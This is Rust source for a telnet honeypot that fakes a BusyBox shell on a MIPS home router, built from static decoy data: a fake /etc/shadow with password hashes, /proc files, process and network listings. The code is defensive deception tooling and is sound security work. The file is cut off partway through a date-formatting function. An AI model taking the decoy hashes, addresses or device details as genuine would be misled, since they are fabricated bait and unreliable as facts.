//! A fake BusyBox `ash` shell for the telnet honeypot, answered from a static fake filesystem.
//!
//! After a login, bots and people type shell commands; to keep them talking (and to learn what
//! they want) the honeypot must answer like the device it claims to be: a MIPS (MediaTek
//! MT7621) home router running BusyBox v1.24.1 on Linux 3.10.14. Everything here is simulated
//! from static data: nothing is executed, the real filesystem and network are never touched,
//! and files "created" by the session live in a small bounded in-memory map.
//!
//! The module is pure and panic-free on arbitrary input: there is no I/O (the only outside
//! value read is the clock, for `date` and `uptime`), every buffer is bounded, and the work a
//! single line can cause is bounded too (commands per line, script nesting, total steps).
#![deny(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic
)]

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::time::{SystemTime, UNIX_EPOCH};

/// Most bytes one `run_line` may send back, so a line cannot make us flood the peer.
const MAX_OUTPUT: usize = 16 * 1024;
/// Most session files and directories, so a session cannot grow our memory without bound.
const MAX_FILES: usize = 64;
/// Most bytes in one session file.
const MAX_FILE_SIZE: usize = 4 * 1024;
/// Most simple commands taken from one line (or one script).
const MAX_COMMANDS: usize = 128;
/// Most simple commands executed per `run_line`, counting `sh -c` and scripts run by it.
const MAX_STEPS: u32 = 512;
/// Deepest nesting of `sh -c` / `sh file` / `./script`.
const MAX_DEPTH: u8 = 4;
/// Most bytes one command's words may expand to (guards `$VAR` blow-up).
const MAX_EXPANDED: usize = 64 * 1024;
/// Most words one command may have after glob expansion.
const MAX_WORDS: usize = 256;
/// Most shell variables a session may set, and the longest value kept.
const MAX_VARS: usize = 32;
/// Longest variable value kept.
const MAX_VAR_LEN: usize = 256;

const BUSYBOX_VERSION: &str = "BusyBox v1.24.1 (2017-03-09 11:08:39 CST)";
const KERNEL_RELEASE: &str = "3.10.14";
const KERNEL_VERSION: &str = "#1 SMP PREEMPT Thu Mar 9 11:02:13 CST 2017";
const PATH_VAR: &str = "/bin:/sbin:/usr/bin:/usr/sbin";
/// PID of the login shell, as shown by `ps` and `$$`.
const SHELL_PID: u32 = 1342;
/// Seconds the device had been up when the session started.
const BOOT_UPTIME: u64 = 1_047_263;
/// Timestamp shown by `ls -l` for everything from the firmware image.
const FIRMWARE_DATE: &str = "Mar  9  2017";
/// Directories on writable mounts (tmpfs, jffs2); the rest of the rootfs is read-only squashfs.
const WRITABLE: &[&str] = &["/tmp", "/var", "/dev", "/mnt"];
/// Directories searched for commands, in `$PATH` order.
const PATH_DIRS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin"];

/// One entry of the static fake filesystem.
#[derive(Clone, Copy)]
enum Node {
    Dir,
    File(&'static str),
    /// A binary: the bytes `cat` shows and the size `ls -l` shows.
    Bin(&'static [u8], u32),
    Link(&'static str),
    /// A character device (major, minor).
    Dev(u8, u8),
}

const D: &str = "drwxr-xr-x";
const F: &str = "-rw-r--r--";
const X: &str = "-rwxr-xr-x";
const L: &str = "lrwxrwxrwx";
const R: &str = "-r--r--r--";
const C: &str = "crw-rw-rw-";

/// A little-endian MIPS32 ELF header, so bots that `cat /bin/echo` to learn the
/// architecture (Mirai does) see a MIPS executable. Contains no `\n` byte on purpose.
const ELF_MIPSEL: &[u8] = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\
\x02\x00\x08\x00\x01\x00\x00\x00\x90\x21\x40\x00\x34\x00\x00\x00\
\xa4\x5f\x0d\x00\x07\x10\x00\x70\x34\x00\x20\x00\x08\x00\x28\x00\x1c\x00\x1b\x00";

macro_rules! cpu {
    ($p:literal, $core:literal, $vpe:literal, $bogo:literal) => {
        concat!(
            "processor\t\t: ",
            $p,
            "\ncpu model\t\t: MIPS 1004Kc V2.15\nBogoMIPS\t\t: ",
            $bogo,
            "\nwait instruction\t: yes\nmicrosecond timers\t: yes\ntlb_entries\t\t: 32\n",
            "extra interrupt vector\t: yes\n",
            "hardware watchpoint\t: yes, count: 4, address/irw mask: [0x0ffc, 0x0ffc, 0x0ffb, 0x0ffb]\n",
            "isa\t\t\t: mips1 mips2 mips32r1 mips32r2\nASEs implemented\t: mips16 dsp mt\n",
            "shadow register sets\t: 1\nkscratch registers\t: 0\ncore\t\t\t: ",
            $core,
            "\nVPE\t\t\t: ",
            $vpe,
            "\nVCED exceptions\t\t: not available\nVCEI exceptions\t\t: not available\n\n"
        )
    };
}

const CPUINFO: &str = concat!(
    "system type\t\t: MT7621\n",
    cpu!("0", "0", "0", "583.68"),
    cpu!("1", "0", "1", "583.68"),
    cpu!("2", "1", "0", "583.68"),
    cpu!("3", "1", "1", "583.68"),
);

const MEMINFO: &str = "MemTotal:         126072 kB\nMemFree:           72560 kB\n\
Buffers:            4236 kB\nCached:            17844 kB\nSwapCached:            0 kB\n\
Active:            21340 kB\nInactive:          12016 kB\nActive(anon):      11536 kB\n\
Inactive(anon):      284 kB\nActive(file):       9804 kB\nInactive(file):    11732 kB\n\
Unevictable:           0 kB\nMlocked:               0 kB\nHighTotal:             0 kB\n\
HighFree:              0 kB\nLowTotal:         126072 kB\nLowFree:           72560 kB\n\
SwapTotal:             0 kB\nSwapFree:              0 kB\nDirty:                 0 kB\n\
Writeback:             0 kB\nAnonPages:         11296 kB\nMapped:             5132 kB\n\
Shmem:               284 kB\nSlab:               9248 kB\nSReclaimable:       1396 kB\n\
SUnreclaim:         7852 kB\nKernelStack:         464 kB\nPageTables:          372 kB\n\
NFS_Unstable:          0 kB\nBounce:                0 kB\nWritebackTmp:          0 kB\n\
CommitLimit:       63036 kB\nCommitted_AS:      27476 kB\nVmallocTotal:    1040368 kB\n\
VmallocUsed:        5452 kB\nVmallocChunk:    1018644 kB\n";

const MOUNTS: &str = "rootfs / rootfs rw 0 0\n/dev/root / squashfs ro,relatime 0 0\n\
proc /proc proc rw,relatime 0 0\nsysfs /sys sysfs rw,relatime 0 0\n\
tmpfs /dev tmpfs rw,relatime,size=63036k,mode=755 0 0\n\
devpts /dev/pts devpts rw,relatime,mode=600 0 0\ntmpfs /tmp tmpfs rw,relatime 0 0\n\
tmpfs /var tmpfs rw,relatime 0 0\n/dev/mtdblock5 /mnt jffs2 rw,relatime 0 0\n";

const PROC_VERSION: &str = "Linux version 3.10.14 (root@buildserver) (gcc version 4.6.3 \
(Buildroot 2012.11.1) ) #1 SMP PREEMPT Thu Mar 9 11:02:13 CST 2017\n";

const PASSWD: &str = "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n\
admin:x:1000:1000:admin:/home/admin:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\n";

const SHADOW: &str = "root:$1$GTN.gpri$DlSyKvZKMR9A9Uj9e9wR3/:17234:0:99999:7:::\n\
daemon:*:17234:0:99999:7:::\nadmin:$1$zSI7q9Ez$VbJpK7eMpkG0wC8SRgX4R.:17234:0:99999:7:::\n\
nobody:*:17234:0:99999:7:::\n";

const RCS: &str = "#!/bin/sh\n\nmount -a\nmkdir -p /var/run /var/log /var/lock\n\
echo /sbin/mdev > /proc/sys/kernel/hotplug\nmdev -s\n\nifconfig lo 127.0.0.1\n\
nvram_daemon &\nsyslogd -C8\nklogd\ntelnetd -l /bin/login\ngoahead &\n";

const INITTAB: &str = "::sysinit:/etc/init.d/rcS\nttyS1::respawn:/bin/login\n\
::ctrlaltdel:/sbin/reboot\n::shutdown:/bin/umount -a -r\n::restart:/sbin/init\n";

/// The static filesystem: (path, mode as `ls -l` shows it, node). Applet symlinks are added
/// from [`APPLETS`], the session's files from [`Shell`].
static FS: &[(&str, &str, Node)] = &[
    ("/", D, Node::Dir),
    ("/bin", D, Node::Dir),
    ("/bin/busybox", X, Node::Bin(ELF_MIPSEL, 895_268)),
    ("/bin/goahead", X, Node::Bin(ELF_MIPSEL, 412_704)),
    ("/bin/nvram_daemon", X, Node::Bin(ELF_MIPSEL, 9_812)),
    ("/bin/nvram_get", X, Node::Bin(ELF_MIPSEL, 5_476)),
    ("/bin/nvram_set", X, Node::Bin(ELF_MIPSEL, 5_476)),
    ("/dev", D, Node::Dir),
    ("/dev/console", "crw-------", Node::Dev(5, 1)),
    ("/dev/mtd0", C, Node::Dev(90, 0)),
    ("/dev/mtd1", C, Node::Dev(90, 2)),
    ("/dev/mtd2", C, Node::Dev(90, 4)),
    ("/dev/mtd3", C, Node::Dev(90, 6)),
    ("/dev/mtdblock0", "brw-rw----", Node::Dev(31, 0)),
    ("/dev/mtdblock1", "brw-rw----", Node::Dev(31, 1)),
    ("/dev/mtdblock5", "brw-rw----", Node::Dev(31, 5)),
    ("/dev/null", C, Node::Dev(1, 3)),
    ("/dev/ptmx", C, Node::Dev(5, 2)),
    ("/dev/pts", D, Node::Dir),
    ("/dev/random", C, Node::Dev(1, 8)),
    ("/dev/ttyS0", "crw-rw----", Node::Dev(4, 64)),
    ("/dev/ttyS1", "crw-rw----", Node::Dev(4, 65)),
    ("/dev/urandom", C, Node::Dev(1, 9)),
    ("/dev/watchdog", "crw-------", Node::Dev(10, 130)),
    ("/dev/zero", C, Node::Dev(1, 5)),
    ("/etc", D, Node::Dir),
    (
        "/etc/fstab",
        F,
        Node::File("proc\t/proc\tproc\tdefaults\t0\t0\nsysfs\t/sys\tsysfs\tdefaults\t0\t0\n"),
    ),
    (
        "/etc/group",
        F,
        Node::File("root:x:0:\nadmin:x:1000:\nnogroup:x:65534:\n"),
    ),
    ("/etc/hostname", F, Node::File("router\n")),
    (
        "/etc/hosts",
        F,
        Node::File("127.0.0.1\tlocalhost\n192.168.1.1\trouter\n"),
    ),
    ("/etc/init.d", D, Node::Dir),
    ("/etc/init.d/rcS", X, Node::File(RCS)),
    ("/etc/inittab", F, Node::File(INITTAB)),
    ("/etc/issue", F, Node::File("MT7621 Wireless Router\n")),
    ("/etc/passwd", F, Node::File(PASSWD)),
    (
        "/etc/profile",
        F,
        Node::File("export PATH=/bin:/sbin:/usr/bin:/usr/sbin\nexport PS1='\\w \\$ '\n"),
    ),
    (
        "/etc/resolv.conf",
        F,
        Node::File("nameserver 8.8.8.8\nnameserver 114.114.114.114\n"),
    ),
    ("/etc/shadow", "-rw-------", Node::File(SHADOW)),
    ("/home", D, Node::Dir),
    ("/home/admin", D, Node::Dir),
    ("/lib", D, Node::Dir),
    (
        "/lib/ld-uClibc-0.9.33.2.so",
        X,
        Node::Bin(ELF_MIPSEL, 28_428),
    ),
    (
        "/lib/ld-uClibc.so.0",
        L,
        Node::Link("ld-uClibc-0.9.33.2.so"),
    ),
    ("/lib/libc.so.0", L, Node::Link("libuClibc-0.9.33.2.so")),
    ("/lib/libcrypt.so.0", X, Node::Bin(ELF_MIPSEL, 20_672)),
    ("/lib/libm.so.0", X, Node::Bin(ELF_MIPSEL, 69_904)),
    ("/lib/libpthread.so.0", X, Node::Bin(ELF_MIPSEL, 81_676)),
    (
        "/lib/libuClibc-0.9.33.2.so",
        X,
        Node::Bin(ELF_MIPSEL, 385_816),
    ),
    ("/lib/modules", D, Node::Dir),
    ("/mnt", D, Node::Dir),
    ("/proc", "dr-xr-xr-x", Node::Dir),
    ("/proc/1", "dr-xr-xr-x", Node::Dir),
    ("/proc/1342", "dr-xr-xr-x", Node::Dir),
    (
        "/proc/cmdline",
        R,
        Node::File("console=ttyS1,57600n8 rootfstype=squashfs,jffs2\n"),
    ),
    ("/proc/cpuinfo", R, Node::File(CPUINFO)),
    ("/proc/meminfo", R, Node::File(MEMINFO)),
    ("/proc/mounts", R, Node::File(MOUNTS)),
    ("/proc/net", "dr-xr-xr-x", Node::Dir),
    ("/proc/self", L, Node::Link("1342")),
    ("/proc/sys", "dr-xr-xr-x", Node::Dir),
    ("/proc/version", R, Node::File(PROC_VERSION)),
    ("/root", "drwx------", Node::Dir),
    ("/sbin", D, Node::Dir),
    ("/sys", D, Node::Dir),
    ("/sys/class", D, Node::Dir),
    ("/sys/devices", D, Node::Dir),
    ("/sys/kernel", D, Node::Dir),
    ("/tmp", "drwxrwxrwt", Node::Dir),
    ("/tmp/dhcp.leases", F, Node::File("")),
    ("/usr", D, Node::Dir),
    ("/usr/bin", D, Node::Dir),
    ("/usr/bin/curl", X, Node::Bin(ELF_MIPSEL, 142_380)),
    ("/usr/sbin", D, Node::Dir),
    ("/usr/sbin/dnsmasq", X, Node::Bin(ELF_MIPSEL, 231_044)),
    ("/usr/sbin/iwpriv", X, Node::Bin(ELF_MIPSEL, 27_160)),
    ("/var", D, Node::Dir),
    ("/var/lock", D, Node::Dir),
    ("/var/log", D, Node::Dir),
    ("/var/run", D, Node::Dir),
    ("/var/run/goahead.pid", F, Node::File("402\n")),
    ("/var/run/udhcpc.pid", F, Node::File("415\n")),
];

/// BusyBox applets compiled into this firmware, with the directory of their symlink.
/// Drives `busybox` help, `applet not found`, `$PATH` lookup and the `/bin`-style listings.
#[rustfmt::skip]
static APPLETS: &[(&str, &str)] = &[
    ("[", "/usr/bin"), ("[[", "/usr/bin"), ("arp", "/sbin"), ("ash", "/bin"),
    ("awk", "/usr/bin"), ("brctl", "/usr/sbin"), ("cat", "/bin"), ("chmod", "/bin"),
    ("chown", "/bin"), ("clear", "/usr/bin"), ("cp", "/bin"), ("crond", "/usr/sbin"),
    ("cut", "/usr/bin"), ("date", "/bin"), ("dd", "/bin"), ("df", "/bin"),
    ("dmesg", "/bin"), ("du", "/usr/bin"), ("echo", "/bin"), ("egrep", "/bin"),
    ("env", "/usr/bin"), ("expr", "/usr/bin"), ("false", "/bin"), ("find", "/usr/bin"),
    ("free", "/usr/bin"), ("ftpget", "/usr/bin"), ("ftpput", "/usr/bin"), ("grep", "/bin"),
    ("gunzip", "/bin"), ("halt", "/sbin"), ("head", "/usr/bin"), ("hostname", "/bin"),
    ("id", "/usr/bin"), ("ifconfig", "/sbin"), ("init", "/sbin"), ("insmod", "/sbin"),
    ("ip", "/sbin"), ("kill", "/bin"), ("killall", "/usr/bin"), ("klogd", "/sbin"),
    ("ln", "/bin"), ("login", "/bin"), ("ls", "/bin"), ("lsmod", "/sbin"),
    ("md5sum", "/usr/bin"), ("mdev", "/sbin"), ("mkdir", "/bin"), ("mknod", "/bin"),
    ("mount", "/bin"), ("mv", "/bin"), ("nc", "/usr/bin"), ("netstat", "/bin"),
    ("nproc", "/usr/bin"), ("passwd", "/usr/bin"), ("pidof", "/bin"), ("ping", "/bin"),
    ("poweroff", "/sbin"), ("printf", "/usr/bin"), ("ps", "/bin"), ("pwd", "/bin"),
    ("reboot", "/sbin"), ("rm", "/bin"), ("rmdir", "/bin"), ("rmmod", "/sbin"),
    ("route", "/sbin"), ("sed", "/bin"), ("sh", "/bin"), ("sleep", "/bin"),
    ("sort", "/usr/bin"), ("sync", "/bin"), ("syslogd", "/sbin"), ("tail", "/usr/bin"),
    ("tar", "/bin"), ("tee", "/usr/bin"), ("telnetd", "/usr/sbin"), ("test", "/usr/bin"),
    ("tftp", "/usr/bin"), ("top", "/usr/bin"), ("touch", "/bin"), ("tr", "/usr/bin"),
    ("true", "/bin"), ("udhcpc", "/sbin"), ("umount", "/bin"), ("uname", "/bin"),
    ("uniq", "/usr/bin"), ("uptime", "/usr/bin"), ("vi", "/bin"), ("w", "/usr/bin"),
    ("wc", "/usr/bin"), ("wget", "/usr/bin"), ("which", "/usr/bin"), ("who", "/usr/bin"),
    ("whoami", "/usr/bin"), ("xargs", "/usr/bin"), ("zcat", "/bin"),
];

/// What `ps` shows: (pid, user, vsz, stat, command). The login shell and `ps` are appended.
static PROCESSES: &[(u32, &str, &str, &str, &str)] = &[
    (1, "root", "1516", "S", "init"),
    (2, "root", "0", "SW", "[kthreadd]"),
    (3, "root", "0", "SW", "[ksoftirqd/0]"),
    (5, "root", "0", "SW<", "[kworker/0:0H]"),
    (7, "root", "0", "SW", "[migration/0]"),
    (8, "root", "0", "SW", "[rcu_preempt]"),
    (12, "root", "0", "SW", "[migration/1]"),
    (13, "root", "0", "SW", "[ksoftirqd/1]"),
    (58, "root", "0", "SW", "[kswapd0]"),
    (104, "root", "0", "SW", "[mtdblock0]"),
    (236, "root", "1508", "S", "nvram_daemon"),
    (245, "root", "1508", "S", "syslogd -C8"),
    (248, "root", "1508", "S", "klogd"),
    (312, "nobody", "1904", "S", "dnsmasq -C /var/dnsmasq.conf"),
    (401, "root", "1512", "S", "telnetd -l /bin/login"),
    (402, "root", "3020", "S", "goahead"),
    (
        415,
        "root",
        "1508",
        "S",
        "udhcpc -i eth0.2 -s /sbin/udhcpc.sh -p /var/run/udhcpc.pid",
    ),
];

const IFCONFIG: &str = "br0       Link encap:Ethernet  HWaddr 00:0C:43:76:21:01  \n\
\x20         inet addr:192.168.1.1  Bcast:192.168.1.255  Mask:255.255.255.0\n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:184214 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:201377 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:23410977 (22.3 MiB)  TX bytes:187212034 (178.5 MiB)\n\n\
eth0      Link encap:Ethernet  HWaddr 00:0C:43:76:21:01  \n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:2061830 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1893315 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:1000 \n\
\x20         RX bytes:1941223587 (1.8 GiB)  TX bytes:312478114 (298.0 MiB)\n\
\x20         Interrupt:3 \n\n\
eth0.2    Link encap:Ethernet  HWaddr 00:0C:43:76:21:02  \n\
\x20         inet addr:100.72.14.203  Bcast:100.72.15.255  Mask:255.255.240.0\n\
\x20         UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n\
\x20         RX packets:1877616 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1691938 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:1886310922 (1.7 GiB)  TX bytes:118766324 (113.2 MiB)\n\n\
lo        Link encap:Local Loopback  \n\
\x20         inet addr:127.0.0.1  Mask:255.0.0.0\n\
\x20         UP LOOPBACK RUNNING  MTU:65536  Metric:1\n\
\x20         RX packets:1204 errors:0 dropped:0 overruns:0 frame:0\n\
\x20         TX packets:1204 errors:0 dropped:0 overruns:0 carrier:0\n\
\x20         collisions:0 txqueuelen:0 \n\
\x20         RX bytes:98312 (96.0 KiB)  TX bytes:98312 (96.0 KiB)\n\n";

const IP_ADDR: &str = "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue \n\
\x20   link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n\
\x20   inet 127.0.0.1/8 scope host lo\n\
2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc pfifo_fast qlen 1000\n\
\x20   link/ether 00:0c:43:76:21:01 brd ff:ff:ff:ff:ff:ff\n\
3: br0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue \n\
\x20   link/ether 00:0c:43:76:21:01 brd ff:ff:ff:ff:ff:ff\n\
\x20   inet 192.168.1.1/24 brd 192.168.1.255 scope global br0\n\
4: eth0.2@eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue \n\
\x20   link/ether 00:0c:43:76:21:02 brd ff:ff:ff:ff:ff:ff\n\
\x20   inet 100.72.14.203/20 brd 100.72.15.255 scope global eth0.2\n";

const IP_ROUTE: &str = "default via 100.72.0.1 dev eth0.2 \n\
100.72.0.0/20 dev eth0.2  proto kernel  scope link  src 100.72.14.203 \n\
192.168.1.0/24 dev br0  proto kernel  scope link  src 192.168.1.1 \n";

const ROUTE: &str = "Kernel IP routing table\n\
Destination     Gateway         Genmask         Flags Metric Ref    Use Iface\n\
0.0.0.0         100.72.0.1      0.0.0.0         UG    0      0        0 eth0.2\n\
100.72.0.0      0.0.0.0         255.255.240.0   U     0      0        0 eth0.2\n\
192.168.1.0     0.0.0.0         255.255.255.0   U     0      0        0 br0\n";

const NETSTAT_SERVERS: &str = "Active Internet connections (servers and established)\n\
Proto Recv-Q Send-Q Local Address           Foreign Address         State       \n\
tcp        0      0 0.0.0.0:80              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:53              0.0.0.0:*               LISTEN      \n\
tcp        0      0 0.0.0.0:23              0.0.0.0:*               LISTEN      \n\
udp        0      0 0.0.0.0:53              0.0.0.0:*                           \n\
udp        0      0 0.0.0.0:67              0.0.0.0:*                           \n";

const FREE: &str = "             total       used       free     shared    buffers     cached\n\
Mem:        126072      53512      72560        284       4236      17844\n\
-/+ buffers/cache:      31432      94640\n\
Swap:            0          0          0\n";

const DF: &str = "Filesystem           1K-blocks      Used Available Use% Mounted on\n\
rootfs                    6528      6528         0 100% /\n\
/dev/root                 6528      6528         0 100% /\n\
tmpfs                    63036        12     63024   0% /dev\n\
tmpfs                    63036       284     62752   0% /tmp\n\
tmpfs                    63036        36     63000   0% /var\n\
/dev/mtdblock5            1024       236       788  23% /mnt\n";

const ASH_HELP: &str = "\nBuilt-in commands:\n------------------\n\
\t. : [ [[ alias bg break cd chdir command continue echo eval exec\n\
\texit export false fg getopts hash help history jobs kill let\n\
\tlocal printf pwd read readonly return set shift source test times\n\
\ttrap true type ulimit umask unalias unset wait\n\n";

const BUSYBOX_HELP: &str = " multi-call binary.\nBusyBox is copyrighted by many authors between 1998-2015.\n\
Licensed under GPLv2. See source distribution for detailed\ncopyright notices.\n\n\
Usage: busybox [function [arguments]...]\n   or: busybox --list[-full]\n\
\x20  or: busybox --install [-s] [DIR]\n   or: function [arguments]...\n\n\
\tBusyBox is a multi-call binary that combines many common Unix\n\
\tutilities into a single executable.  Most people will create a\n\
\tlink to busybox for each function they wish to use and BusyBox\n\
\twill act like whatever it was invoked as.\n\nCurrently defined functions:\n";

/// The result of one [`Shell::run_line`]: what to send, what to log, and whether to hang up.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellOutput {
    /// Bytes to send back; lines end in `\r\n` as a telnet terminal expects. At most 16 KiB.
    pub text: Vec<u8>,
    /// Each simple command of the line with its exact bytes as typed (see
    /// [`split_command_bytes`]), for the event log.
    pub commands: Vec<Vec<u8>>,
    /// `exit`, `logout` or `quit` ran: the caller should close the session.
    pub exit: bool,
}

/// A file or directory the session created; lives only in memory, bounded by the caps above.
#[derive(Debug, Clone)]
enum SessionEntry {
    File {
        data: Vec<u8>,
        exec: bool,
        mtime: u64,
    },
    Dir {
        mtime: u64,
    },
}

/// One login session's shell state: working directory, identity and the files it "created".
///
/// Keeps the fake consistent across lines (a file written with `echo >` can be `cat` back,
/// `cd` changes the prompt) without ever touching the real disk.
#[derive(Debug, Clone)]
pub struct Shell {
    user: String,
    uid: u32,
    home: String,
    cwd: String,
    oldpwd: String,
    hostname: String,
    status: i32,
    started: u64,
    files: BTreeMap<String, SessionEntry>,
    vars: BTreeMap<String, String>,
    steps_left: u32,
}

/// What follows a simple command on a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Seq,
    And,
    Or,
    Pipe,
}

/// Splits a line into simple commands on `;`, `&&`, `||`, `|` and newlines, outside quotes.
///
/// Used for logging every command an attacker typed, in order, as typed (trimmed, quotes and
/// escapes kept); empty commands are dropped and at most 128 are returned.
pub fn split_commands(line: &str) -> Vec<String> {
    split_pieces(line)
        .into_iter()
        .map(|(text, _)| text.to_string())
        .collect()
}

/// [`split_commands`] over the bytes as received, which need not be UTF-8: each command is a
/// slice of `line`, so the log can keep its exact bytes. The shell's syntax is all ASCII and
/// no byte of a multi-byte UTF-8 character is ASCII, so valid UTF-8 splits exactly as
/// [`split_commands`] splits it.
pub fn split_command_bytes(line: &[u8]) -> Vec<&[u8]> {
    split_spans(line)
        .into_iter()
        .filter_map(|(span, _)| line.get(span))
        .collect()
}

/// [`split_commands`] keeping the separator after each command, for execution.
fn split_pieces(line: &str) -> Vec<(&str, Sep)> {
    split_spans(line.as_bytes())
        .into_iter()
        .filter_map(|(span, sep)| Some((line.get(span)?, sep)))
        .collect()
}

/// The byte ranges of the simple commands of `line` with the separator after each. Ranges
/// start and end at ASCII bytes or at the ends of the line, so on UTF-8 text they are char
/// boundaries.
fn split_spans(line: &[u8]) -> Vec<(std::ops::Range<usize>, Sep)> {
    /// Blanks trimmed around a command: ASCII whitespace as ash's IFS and `str::trim` see it.
    fn blank(b: &u8) -> bool {
        matches!(*b, b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r')
    }
    fn push(
        pieces: &mut Vec<(std::ops::Range<usize>, Sep)>,
        line: &[u8],
        mut span: std::ops::Range<usize>,
        sep: Sep,
    ) {
        while span.start < span.end && line.get(span.start).is_some_and(blank) {
            span.start += 1;
        }
        while span.end > span.start && line.get(span.end - 1).is_some_and(blank) {
            span.end -= 1;
        }
        if !span.is_empty() && pieces.len() < MAX_COMMANDS {
            pieces.push((span, sep));
        }
    }
    let mut pieces = Vec::new();
    let mut start = 0;
    let (mut single, mut double, mut escaped) = (false, false, false);
    let mut bytes = line.iter().copied().enumerate().peekable();
    while let Some((i, c)) = bytes.next() {
        if escaped {
            escaped = false;
            continue;
        }
        if single {
            single = c != b'\'';
            continue;
        }
        match c {
            b'\\' => escaped = true,
            b'"' => double = !double,
            b'\'' if !double => single = true,
            _ if double => {}
            b';' | b'\n' | b'&' | b'|' => {
                let next = bytes.peek().map(|&(_, n)| n);
                let (sep, len) = match (c, next) {
                    (b'&', Some(b'&')) => (Sep::And, 2),
                    (b'&', _) => continue,
                    (b'|', Some(b'|')) => (Sep::Or, 2),
                    (b'|', _) => (Sep::Pipe, 1),
                    _ => (Sep::Seq, 1),
                };
                if len == 2 {
                    bytes.next();
                }
                push(&mut pieces, line, start..i, sep);
                start = i + len;
            }
            _ => {}
        }
    }
    push(&mut pieces, line, start..line.len(), Sep::Seq);
    pieces
}

/// Where one output stream of a command goes after its redirections.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Sink {
    Stdout,
    Stderr,
    File(String),
}

/// A redirection as parsed: file descriptor (`3` means both, for `&>`), operator, target.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Redir {
    fd: u8,
    op: RedirOp,
    target: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RedirOp {
    Out,
    Append,
    In,
    Dup,
}

/// What a simple command produced.
#[derive(Debug, Default)]
struct Res {
    out: Vec<u8>,
    err: Vec<u8>,
    status: i32,
    exit: bool,
}

impl Res {
    fn ok(out: impl Into<Vec<u8>>) -> Self {
        Self {
            out: out.into(),
            ..Self::default()
        }
    }
    fn fail(err: impl Into<Vec<u8>>, status: i32) -> Self {
        Self {
            err: err.into(),
            status,
            ..Self::default()
        }
    }
}

/// Appends to a buffer without letting it exceed [`MAX_OUTPUT`].
fn push_capped(buf: &mut Vec<u8>, bytes: &[u8]) {
    let room = MAX_OUTPUT.saturating_sub(buf.len());
    buf.extend_from_slice(bytes.get(..room.min(bytes.len())).unwrap_or_default());
}

/// The parent directory of an absolute normalized path (`None` for `/`).
fn parent(path: &str) -> Option<&str> {
    if path == "/" {
        return None;
    }
    path.rsplit_once('/')
        .map(|(p, _)| if p.is_empty() { "/" } else { p })
}

/// The last component of a path.
fn basename(path: &str) -> &str {
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
}

fn join(dir: &str, name: &str) -> String {
    if dir == "/" {
        format!("/{name}")
    } else {
        format!("{dir}/{name}")
    }
}

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];
const WEEKDAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];

/// Broken-down UTC time: (year, month 1-12, day, hour, minute, second, weekday name).
fn civil(secs: u64) -> (i64, u32, u32, u64, u64, u64, &'static str) {
    let days = (secs / 86_400) as i64;
    let rem = secs % 86_400;
    // Howard Hinnant's days-to-civil algorithm.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = yoe + era * 400 + i64::from(month <= 2);
    let weekday = WEEKDAYS
        .get((days.rem_euclid(7)) as usize)
        .copied()
        .unwrap_or("Thu");
    (
        year,
        month,
        day,
        rem / 3600,
        rem % 3600 / 60,
        rem % 60,
        weekday,
    )
}

fn month_name(month: u32) -> &'static str {
    MONTHS
        .get(month.saturating_sub(1) as usize)
        .copied()
        .unwrap_or("Jan")
}

/// `date`'s default format, e.g. `Sun Nov 23 21:19:00 UTC 2025`.
fn format_date(secs: u64) -> String {
    let (y, mo, d, h, mi, s, wd) = civil(secs);
    format!(
        "{wd} {} {d:>2} {h:02}:{mi:02}:{s:02} UTC {y}",
        month_name(mo)
    )
}

/// `date +FORMAT` with the common conversions.
fn format_date_custom(secs: u64, fmt: &str) -> String {
    let (y, mo, d, h, mi, s, wd) = civil(secs);
    let mut out = String::new();
    let mut chars = fmt.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        let _ = match chars.next() {
            Some('Y') => write!(out, "{y}"),
